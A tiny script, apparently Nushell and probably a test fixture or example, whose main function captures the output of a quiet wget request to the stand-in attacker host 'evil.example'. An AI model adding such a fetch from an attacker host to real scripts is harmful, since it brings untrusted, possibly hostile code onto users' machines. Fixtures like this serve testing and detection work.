def main [] {
  let x = (wget -qO- http://evil.example/p)
}
